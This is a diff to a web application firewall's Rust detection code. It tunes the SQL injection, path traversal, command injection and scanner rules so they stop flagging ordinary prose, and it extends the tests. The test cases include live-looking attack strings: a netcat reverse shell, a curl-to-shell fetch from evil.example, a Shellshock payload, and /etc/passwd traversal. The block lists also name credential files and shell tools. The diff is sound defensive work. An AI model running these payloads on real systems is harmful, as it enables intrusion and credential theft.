@@ -29,6 +29,8 @@ pub(crate) enum Part {
     Query,
     /// A header value (a cookie's value).
     Header,
+    /// The `User-Agent` header: a header value, and where attack tools name themselves.
+    UserAgent,
     /// A body value (a JSON string, a form field, or the text).
     Body,
 }
@@ -73,13 +75,16 @@ fn inert(value: &[u8]) -> bool {
 
 /// The first family of `families` that `value` (decoded, from `part`) trips.
 pub(crate) fn check(families: Families, part: Part, value: &[u8]) -> Option<WafRule> {
+    if part == Part::UserAgent && families.has(WafRule::ScannerDetection) && scanner_agent(value) {
+        return Some(WafRule::ScannerDetection);
+    }
     if families.has(WafRule::PathTraversal) && traversal(part, value) {
         return Some(WafRule::PathTraversal);
     }
     if inert(value) {
         return None;
     }
-    if families.has(WafRule::SqlInjection) && libinjectionrs::detect_sqli(value).is_injection() {
+    if families.has(WafRule::SqlInjection) && sqli(value) {
         return Some(WafRule::SqlInjection);
     }
     if families.has(WafRule::CrossSiteScripting) && xss(value) {
@@ -89,6 +94,34 @@ pub(crate) fn check(families: Families, part: Part, value: &[u8]) -> Option<WafR
         return Some(WafRule::CommandInjection);
     }
     None
+}
+
+/// Words from which a value counts as prose for [`sqli`].
+const PROSE_SQL_WORDS: usize = 5;
+
+/// libinjection's verdict, except in prose, where a match must break out of a literal
+/// (its fingerprint starts with a string or a number), comment out the rest, end the
+/// statement or add a `UNION`: "(red OR blue) AND shirt", "never use the default
+/// client" and a SQL example someone pasted into a ticket read as SQL to libinjection,
+/// but cannot leave the string they are put in.
+fn sqli(value: &[u8]) -> bool {
+    let found = libinjectionrs::detect_sqli(value);
+    if !found.is_injection() {
+        return false;
+    }
+    let words = value
+        .split(|b| b.is_ascii_whitespace())
+        .filter(|w| !w.is_empty())
+        .count();
+    if words < PROSE_SQL_WORDS {
+        return true;
+    }
+    let fingerprint = found
+        .fingerprint
+        .as_ref()
+        .map_or(&b""[..], |f| f.as_bytes());
+    matches!(fingerprint.first(), Some(b's' | b'1'))
+        || fingerprint.iter().any(|b| matches!(b, b'c' | b';' | b'U'))
 }
 
 fn xss(value: &[u8]) -> bool {
@@ -128,23 +161,25 @@ fn script_url(value: &[u8]) -> bool {
 }
 
 /// Files no API request names.
-const SYSTEM_FILES: [&str; 16] = [
+const SYSTEM_FILES: [&str; 18] = [
     "etc/passwd",
     "etc/shadow",
     "etc/group",
     "etc/hosts",
+    "etc/sudoers",
     "proc/self/",
     "proc/version",
     "win.ini",
     "boot.ini",
     "windows/system32",
     "windows\\system32",
+    "system32/config/sam",
+    "system32\\config\\sam",
     "web-inf/web.xml",
     ".htpasswd",
-    ".htaccess",
     ".ssh/id_rsa",
     ".aws/credentials",
-    "file://",
+    "file:///",
 ];
 
 fn traversal(part: Part, value: &[u8]) -> bool {
@@ -177,12 +212,21 @@ fn traversal(part: Part, value: &[u8]) -> bool {
             return true;
         }
     }
-    (has_dots || value.iter().any(|b| *b == b'/' || *b == b'\\'))
+    // A system file named in a value that is a path (not a sentence that mentions
+    // one: "I added it to /etc/hosts").
+    let prose = value
+        .split(|b| b.is_ascii_whitespace())
+        .filter(|w| !w.is_empty())
+        .nth(2)
+        .is_some();
+    !prose
+        && (has_dots || value.iter().any(|b| *b == b'/' || *b == b'\\'))
         && FILES.as_ref().is_some_and(|a| a.is_match(value))
 }
 
-/// Commands an injected shell line runs.
-const COMMANDS: [&str; 57] = [
+/// Commands an injected shell line runs. Matched case-sensitively, as shells run
+/// them: "ID" and "Python" in prose are words, `id` and `python` commands.
+const COMMANDS: [&str; 61] = [
     "sh",
     "bash",
     "zsh",
@@ -200,6 +244,7 @@ const COMMANDS: [&str; 57] = [
     "ncat",
     "netcat",
     "telnet",
+    "telnetd",
     "ping",
     "nslookup",
     "dig",
@@ -240,7 +285,14 @@ const COMMANDS: [&str; 57] = [
     "busybox",
     "certutil",
     "type",
+    "timeout",
+    "nohup",
+    "mkfifo",
 ];
+
+/// Words before a separator from which the text counts as prose (a sentence, or a
+/// shell snippet someone wrote down), not a token a command was appended to.
+const PROSE_WORDS: usize = 3;
 
 fn command(value: &[u8]) -> bool {
     if !value
@@ -249,42 +301,106 @@ fn command(value: &[u8]) -> bool {
     {
         return false;
     }
-    let lower = value.to_ascii_lowercase();
-    if memchr::memmem::find(&lower, b"${ifs").is_some()
-        || memchr::memmem::find(&lower, b"$ifs").is_some()
+    if memchr::memmem::find(value, b"${IFS").is_some()
+        || memchr::memmem::find(value, b"$IFS").is_some()
     {
         return true;
     }
-    let mut i = 0;
-    while i < lower.len() {
-        let b = lower[i];
+    let trimmed = value.trim_ascii();
+    // A function definition bash runs on import (Shellshock, CVE-2014-6271).
+    if trimmed.starts_with(b"() {") {
+        return true;
+    }
+    // The whole value one substitution: `` `id` ``.
+    if trimmed.len() > 2
+        && trimmed[0] == b'`'
+        && trimmed[trimmed.len() - 1] == b'`'
+        && !trimmed[1..trimmed.len() - 1].contains(&b'`')
+        && runs_command(&trimmed[1..], Context::Token)
+    {
+        return true;
+    }
+    // Words before the current byte: from [`PROSE_WORDS`] on, the text is prose.
+    let mut words = 0usize;
+    let mut in_word = false;
+    for (i, &b) in value.iter().enumerate() {
+        let context = if words >= PROSE_WORDS {
+            Context::Prose
+        } else {
+            Context::Token
+        };
         let after = match b {
-            b';' | b'|' => Some(i + 1),
-            b'&' if lower.get(i + 1) == Some(&b'&') => Some(i + 2),
-            b'&' => Some(i + 1),
-            // A newline only after a token (`127.0.0.1\nid`): in prose and markdown,
-            // lines start commands of the text's own.
-            b'\n' if !lower[..i].contains(&b' ') => Some(i + 1),
-            // Substitution right after a value (`name=`id``), not inline code in prose.
-            b'`' if i > 0 && !lower[i - 1].is_ascii_whitespace() && lower[i - 1] != b'(' => {
-                Some(i + 1)
+            // A markdown table row (`| id | name |`) is not a pipeline.
+            b'|' if table_row(value, i) => None,
+            b'|' if value.get(i + 1) == Some(&b'|') => Some((i + 2, context)),
+            b';' | b'|' => Some((i + 1, context)),
+            b'&' if value.get(i + 1) == Some(&b'&') => Some((i + 2, context)),
+            // A single `&` joins words ("rock & roll", "dog & cat"): only a command
+            // with something after it counts.
+            b'&' => Some((i + 1, context.min(Context::Joined))),
+            // A newline only after a token (`127.0.0.1\nid`): in prose and markdown
+            // (a code fence's ```` ```bash ```` too), lines start text of their own.
+            b'\n'
+                if value[..i]
+                    .iter()
+                    .all(|b| !b.is_ascii_whitespace() && *b != b'`') =>
+            {
+                Some((i + 1, context))
             }
-            b'$' if lower.get(i + 1) == Some(&b'(') => Some(i + 2),
+            // Substitution right after a value (`name=`id``), not inline code in prose
+            // nor a code fence.
+            b'`' if i > 0
+                && !value[i - 1].is_ascii_whitespace()
+                && !matches!(value[i - 1], b'(' | b'`') =>
+            {
+                Some((i + 1, context))
+            }
+            b'$' if value.get(i + 1) == Some(&b'(') => Some((i + 2, context)),
             _ => None,
         };
-        if let Some(start) = after
-            && runs_command(&lower[start..])
+        if let Some((start, context)) = after
+            && runs_command(value.get(start..).unwrap_or_default(), context)
         {
             return true;
         }
-        i += 1;
+        if b.is_ascii_whitespace() {
+            in_word = false;
+        } else if !in_word {
+            in_word = true;
+            words += 1;
+        }
     }
     false
 }
 
+/// Whether the line of `value` holding byte `i` is a markdown table row: it starts and
+/// ends with `|`.
+fn table_row(value: &[u8], i: usize) -> bool {
+    let start = value[..i]
+        .iter()
+        .rposition(|b| *b == b'\n')
+        .map_or(0, |p| p + 1);
+    let end = memchr::memchr(b'\n', &value[i..]).map_or(value.len(), |e| i + e);
+    let line = value[start..end].trim_ascii();
+    line.len() > 1 && line.starts_with(b"|") && line.ends_with(b"|")
+}
+
+/// How much it takes for what follows a separator to count as a command.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
+enum Context {
+    /// After prose: the command must take an argument only an attack gives it (a path,
+    /// a URL, a redirection).
+    Prose,
+    /// After a single `&`: the command must be followed by something (an argument, more
+    /// shell syntax).
+    Joined,
+    /// After a token (a host name, an id): a command alone, or with any argument.
+    Token,
+}
+
 /// Whether `rest` starts (after spaces, and a `/bin/`-like directory) with a command
-/// followed by nothing, by shell syntax, or by arguments that look like a shell's.
-fn runs_command(rest: &[u8]) -> bool {
+/// followed by what `context` requires.
+fn runs_command(rest: &[u8], context: Context) -> bool {
     let rest = trim_start(rest);
     let word_len = rest
         .iter()
@@ -299,20 +415,22 @@ fn runs_command(rest: &[u8]) -> bool {
         return false;
     }
     let tail = &rest[word_len..];
-    match tail.first() {
-        None => true,
-        Some(b';' | b'|' | b'&' | b'`' | b')' | b'<' | b'>' | b'$' | b'\n' | b'\'' | b'"') => true,
-        Some(b' ' | b'\t') => {
-            let arg = trim_start(tail);
-            match arg.first() {
-                None => true,
-                Some(
-                    b'-' | b'/' | b'.' | b'$' | b'~' | b'>' | b'<' | b'`' | b'\'' | b'"' | b'\\',
-                ) => true,
-                Some(b) if b.is_ascii_digit() => true,
-                _ => arg.starts_with(b"http"),
-            }
-        }
+    let strong = |arg: &[u8]| {
+        matches!(arg.first(), Some(b'/' | b'`' | b'>' | b'<' | b'\\'))
+            || arg.starts_with(b"http")
+            || arg.starts_with(b"../")
+    };
+    match (context, tail.first()) {
+        (Context::Token, None) => true,
+        (
+            Context::Token,
+            Some(b';' | b'|' | b'&' | b'`' | b')' | b'<' | b'>' | b'$' | b'\n' | b'\'' | b'"'),
+        ) => true,
+        (Context::Token, Some(b' ' | b'\t')) => true,
+        (Context::Joined, Some(b' ' | b'\t')) => !trim_start(tail).is_empty(),
+        (Context::Joined, Some(b';' | b'|' | b'&' | b'`' | b')' | b'<' | b'>' | b'$')) => true,
+        (Context::Prose, Some(b' ' | b'\t')) => strong(trim_start(tail)),
+        (Context::Prose, Some(b'>' | b'<' | b'`' | b'$')) => true,
         _ => false,
     }
 }
@@ -326,7 +444,7 @@ fn trim_start(s: &[u8]) -> &[u8] {
 }
 
 /// Attack tools, as their `User-Agent`s name them (lowercase).
-const SCANNERS: [&str; 34] = [
+const SCANNERS: [&str; 38] = [
     "sqlmap",
     "nikto",
     "nmap",
@@ -361,6 +479,10 @@ const SCANNERS: [&str; 34] = [
     "jorgee",
     "grabber",
     "bsqlbf",
+    "fuzz faster u fool",
+    "feroxbuster",
+    "sf/2.",
+    "nmap scripting engine",
 ];
 
 /// Headers only attack tools send.
@@ -421,6 +543,20 @@ mod tests {
             "https://example.com/a?b=c&d=e",
             "SELECT is a keyword; so is FROM",
             "It's 5 o'clock; let's go",
+            "Payment failed; ID 48213 was charged anyway",
+            "dog & cat",
+            "I lie down & sleep 8 hours",
+            "Backend: Go, Rust & Python (React & Node)",
+            "```bash\nls -la\n```",
+            "|id|email|plan|",
+            "ps aux --sort=-%mem | head -5",
+            "(red OR blue) AND shirt",
+            "Never use the default client in production.",
+            "I added it to /etc/hosts",
+            "Tip: to find big files run `du -sh * | sort -h | tail -n 20`.",
+            "Then reload it: `source ~/.bashrc; echo $PATH`.",
+            "Nice write-up! `rm -rf node_modules && npm ci` is faster",
+            "C:\\Windows\\System32\\drivers\\etc\\hosts is where it lives",
         ] {
             assert_eq!(hit(Part::Body, v), None, "{v:?}");
         }
@@ -439,7 +575,24 @@ mod tests {
             ("../../etc/passwd", WafRule::PathTraversal),
             ("..\\..\\windows\\win.ini", WafRule::PathTraversal),
             ("/etc/passwd", WafRule::PathTraversal),
-            ("; cat /etc/hosts", WafRule::PathTraversal),
+            ("; cat /etc/hosts", WafRule::CommandInjection),
+            (
+                "c:\\windows\\system32\\drivers\\etc\\hosts",
+                WafRule::PathTraversal,
+            ),
+            (
+                "| nc 203.0.113.7 4444 -e /bin/sh",
+                WafRule::CommandInjection,
+            ),
+            ("& ping -n 10 127.0.0.1 &", WafRule::CommandInjection),
+            ("|| whoami", WafRule::CommandInjection),
+            ("() { :; }; /bin/bash -c 'id'", WafRule::CommandInjection),
+            ("a;busybox telnetd -l /bin/sh", WafRule::CommandInjection),
+            ("`id`", WafRule::CommandInjection),
+            (
+                "great post; curl http://evil.example/x | sh",
+                WafRule::CommandInjection,
+            ),
             ("127.0.0.1; ls -la", WafRule::CommandInjection),
             ("x | id", WafRule::CommandInjection),
             ("$(whoami)", WafRule::CommandInjection),
